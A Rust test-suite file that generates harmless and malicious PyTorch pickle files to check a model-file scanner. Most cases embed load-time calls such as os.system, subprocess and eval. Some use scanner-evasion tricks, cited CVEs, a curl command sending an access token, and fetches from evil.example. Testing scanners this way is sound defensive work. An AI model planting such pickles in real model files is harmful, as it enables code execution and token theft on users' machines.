//! Pickles: code that runs when they are loaded, and ways to hide it from who only looks.

use std::io;
use std::path::Path;

use crate::bytes::{Member, zip};
use crate::disk::{card, put, sparse};
use crate::{Attack, Cases, Class, SECRETS};

fn model(home: &Path, bytes: impl AsRef<[u8]>) -> io::Result<()> {
    put(home, "pytorch_model.bin", bytes)
}

/// Protocol 2 around opcodes.
fn two(body: &[u8]) -> Vec<u8> {
    [b"\x80\x02", body, b"."].concat()
}

/// A call of `module.name` on one text.
fn call(module: &str, name: &str, argument: &str) -> Vec<u8> {
    format!("c{module}\n{name}\n(S'{argument}'\ntR").into_bytes()
}

/// Protocol 4 around a global whose names come from the stack.
fn stack_global(module: &str, name: &str) -> Vec<u8> {
    let text = |t: &str| [b"\x8c".to_vec(), vec![u8::try_from(t.len()).unwrap_or(0)], t.as_bytes().to_vec()].concat();
    [b"\x80\x04".to_vec(), text(module), text(name), b"\x93".to_vec(), text("touch owned"), b"\x85R.".to_vec()].concat()
}

/// What torch writes of a dictionary with one tensor.
fn state() -> Vec<u8> {
    let storage = b"((X\x07\0\0\0storagectorch\nFloatStorage\nX\x01\0\0\x000X\x03\0\0\0cpuK\x04tQ";
    let body =
        [b"ccollections\nOrderedDict\n)R(X\x01\0\0\0wctorch._utils\n_rebuild_tensor_v2\n", &storage[..]].concat();
    two(&[body.as_slice(), b"K\0(K\x04t(K\x01t\x89ccollections\nOrderedDict\n)RtRu"].concat())
}

fn torch_zip(pickle: &[u8]) -> Vec<u8> {
    let members = [
        Member::new("archive/data.pkl", pickle),
        Member::new("archive/byteorder", b"little"),
        Member::new("archive/data/0", &[0; 16]),
        Member::new("archive/version", b"3\n"),
    ];
    zip(&members, None)
}

/// The cases.
pub(crate) fn cases() -> Vec<Attack> {
    let mut c = Cases::of(Class::Pickle);
    controls(&mut c);
    calls(&mut c);
    hidden(&mut c);
    broken(&mut c);
    c.done()
}

fn controls(c: &mut Cases) {
    c.ok("pickle-valid-torch", "what torch writes: a zip with a dictionary of tensors", |d| {
        card(d)?;
        model(d, torch_zip(&state()))
    });
    c.ok("pickle-valid-bare", "a bare pickle of a dictionary", |d| {
        card(d)?;
        model(d, two(b"}X\x01\0\0\0aK\x01s"))
    });
    c.ok("pickle-valid-numpy", "arrays of numpy", |d| {
        card(d)?;
        model(d, two(b"cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\n(K\0tU\x01btR"))
    });
    c.ok("pickle-valid-long-text", "a text of 2 MB", |d| {
        card(d)?;
        let n = 2_u32 << 20;
        let text = [b"X".to_vec(), n.to_le_bytes().to_vec(), vec![b'a'; 2 << 20]].concat();
        model(d, two(&text))
    });
    c.ok("pickle-words-in-text", "`os` and `system` as texts that nothing calls", |d| {
        card(d)?;
        model(d, two(b"(X\x02\0\0\0osX\x06\0\0\0systemt"))
    });
}

fn calls(c: &mut Cases) {
    c.error("pickle-os-system", "os.system on loading", |d| model(d, two(&call("posix", "system", "touch owned"))));
    c.error("pickle-os-system-nt", "os.system on loading, on Windows", |d| model(d, two(&call("nt", "system", "x"))));
    c.error("pickle-builtins-eval", "eval on loading", |d| model(d, two(&call("builtins", "eval", "1"))));
    c.error("pickle-builtins-exec-2", "exec under Python 2's name", |d| {
        model(d, two(&call("__builtin__", "exec", "1")))
    });
    c.error("pickle-subprocess", "subprocess.Popen on loading", |d| model(d, two(&call("subprocess", "Popen", "id"))));
    c.error("pickle-stack-global", "a global whose names come from the stack", |d| {
        model(d, stack_global("os", "system"))
    });
    c.error("pickle-inst", "the older opcode that calls by name", |d| {
        model(d, two(b"(S'touch owned'\niposix\nsystem\n"))
    });
    c.error("pickle-obj", "the older opcode that calls a class", |d| {
        model(d, two(b"(cposix\nsystem\nS'touch owned'\no"))
    });
    c.error("pickle-pip", "pip.main, which a list of bad names forgot (CVE-2025-1716)", |d| {
        model(d, two(&call("pip", "main", "install")))
    });
    c.error("pickle-resolve-name", "pkgutil.resolve_name gives any function (picklescan's bypass)", |d| {
        model(d, two(&call("pkgutil", "resolve_name", "os:system")))
    });
    c.error("pickle-subclass", "a module below a bad one (CVE-2025-10157)", |d| {
        model(d, two(&call("asyncio.unix_events", "_UnixSubprocessTransport._start", "id")))
    });
    c.error("pickle-torch-hub", "torch.hub.load: code from a server", |d| {
        model(d, two(&call("torch.hub", "load", "evil/repo")))
    });
    c.error("pickle-getattr", "getattr and a chain to what it wants", |d| {
        model(d, two(b"cbuiltins\ngetattr\n(cbuiltins\n__import__\nS'x'\ntR"))
    });
    c.error("pickle-runpy", "runpy runs a file", |d| model(d, two(&call("runpy", "_run_code", "x"))));
    c.error("pickle-webbrowser", "an address that is opened", |d| {
        model(d, two(&call("webbrowser", "open", "http://evil.example")))
    });
}

fn hidden(c: &mut Cases) {
    c.error("pickle-behind-stop", "a second pickle behind the first one's end", |d| {
        model(d, [two(b"}"), two(&call("posix", "system", "x"))].concat())
    });
    c.error("pickle-payload-first", "the call first and then what breaks every parser (nullifAI)", |d| {
        model(d, [b"\x80\x02".to_vec(), call("posix", "system", "x"), b"\xff\xff\xff\xff".to_vec()].concat())
    });
    c.error("pickle-memo", "names by way of the memo", |d| {
        model(d, b"\x80\x04\x8c\x02os\x940\x8c\x06system\x940h\x00h\x01\x93\x8c\x01x\x85R.")
    });
    c.error("pickle-unresolvable", "a global whose name is computed", |d| model(d, b"\x80\x04K\x01K\x02\x93)R."));
    c.error("pickle-extension", "an extension code that stands for a global", |d| model(d, two(b"\x82\x01)R")));
    c.error("pickle-in-torch", "the call in torch's zip", |d| model(d, torch_zip(&two(&call("posix", "system", "x")))));
    c.error("pickle-other-member", "the call in a member of another name", |d| {
        let members = [
            Member::new("archive/data.pkl", &state()),
            Member::new("archive/extra.bin", &two(&call("posix", "system", "x"))),
        ];
        model(d, zip(&members, None))
    });
    c.error("pickle-bad-crc", "the call in a member with a wrong checksum (CVE-2025-10156)", |d| {
        let mut member = Member::new("archive/data.pkl", &two(&call("posix", "system", "x")));
        member.crc = 1;
        model(d, zip(&[member], None))
    });
    c.error("pickle-flag", "the call in a member that claims to be encrypted (CVE-2025-1944)", |d| {
        let mut member = Member::new("archive/data.pkl", &two(&call("posix", "system", "x")));
        member.flags = 1;
        model(d, zip(&[member], None))
    });
    c.error("pickle-two-names", "a member of two names (CVE-2025-1944)", |d| {
        let mut member = Member::new("archive/data.pkl", &two(&call("posix", "system", "x")));
        member.local = b"archive/readme.txt".to_vec();
        model(d, zip(&[member], None))
    });
    c.error("pickle-renamed", "a pickle under the ending of another format (CVE-2025-10155)", |d| {
        card(d)?;
        put(d, "model.pt", two(&call("posix", "system", "x")))
    });
    c.error("pickle-protocol-0", "protocol 0, which is text", |d| {
        model(d, call("posix", "system", "x").into_iter().chain(*b".").collect::<Vec<u8>>())
    });
    c.error("pickle-newline-global", "a global behind 60 kB of harmless numbers", |d| {
        model(d, two(&[b"K\x010".repeat(20_000), call("posix", "system", "x")].concat()))
    });
    c.warning("pickle-7z", "an archive of another kind, which scanners do not open (nullifAI)", |d| {
        card(d)?;
        model(d, b"7z\xbc\xaf\x27\x1c\0\x04rest of an archive that nobody reads here")
    });
    c.error("pickle-secret", "an access token as the argument of a call", |d| {
        model(d, two(&call("posix", "system", &format!("curl -H {} {}", SECRETS[0], SECRETS[1]))))
    });
    c.warning("pickle-escape", "an escape sequence in a global's name", |d| {
        model(d, two(&call("evil\u{1b}[2J\u{202e}", "run\u{9b}31m", "x")))
    });
}

fn broken(c: &mut Cases) {
    c.warning("pickle-truncated", "a pickle without an end", |d| {
        card(d)?;
        model(d, b"\x80\x02}X\x01\0\0\0a")
    });
    c.warning("pickle-length-max", "a text of 2^64-1 bytes", |d| {
        card(d)?;
        model(d, [b"\x80\x04\x8d".to_vec(), u64::MAX.to_le_bytes().to_vec()].concat())
    });
    c.warning("pickle-length-negative", "a text of negative length", |d| {
        card(d)?;
        model(d, b"\x80\x02T\xff\xff\xff\xffx.")
    });
    c.warning("pickle-frame-max", "a frame of 2^64-1 bytes", |d| {
        card(d)?;
        model(d, [b"\x80\x04\x95".to_vec(), u64::MAX.to_le_bytes().to_vec(), b"}.".to_vec()].concat())
    });
    c.warning("pickle-opcode", "an opcode that does not exist", |d| {
        card(d)?;
        model(d, b"\x80\x02}\xf0\xf1.")
    });
    c.ok("pickle-marks", "a million marks (picklescan hangs)", |d| {
        card(d)?;
        model(d, two(&b"(".repeat(1_000_000)))
    });
    c.warning("pickle-globals", "200,000 globals (picklescan hangs)", |d| {
        card(d)?;
        let all: Vec<u8> = (0..200_000_u32).flat_map(|i| format!("cm{i}\nf\n").into_bytes()).collect();
        model(d, two(&all))
    });
    c.warning("pickle-memo-max", "memo entries at 2^32-1", |d| {
        card(d)?;
        model(d, two(&b"}r\xff\xff\xff\xff".repeat(10_000)))
    });
    c.warning("pickle-sparse", "a pickle of 100 GB of zeros", |d| {
        card(d)?;
        sparse(d, "pytorch_model.bin", b"\x80\x02}", 100 << 30)
    });
    c.warning("pickle-line-endless", "a global whose name is a line of 5 MB", |d| {
        card(d)?;
        model(d, [b"\x80\x02c".to_vec(), vec![b'a'; 5 << 20]].concat())
    });
    c.warning("pickle-long-int", "a number of 2^31 bytes", |d| {
        card(d)?;
        model(d, b"\x80\x02\x8b\xff\xff\xff\x7f\x01.")
    });
    c.ok("pickle-deep", "lists 100,000 deep", |d| {
        card(d)?;
        model(d, two(&[b"]".repeat(100_000), b"a".repeat(99_999)].concat()))
    });
}
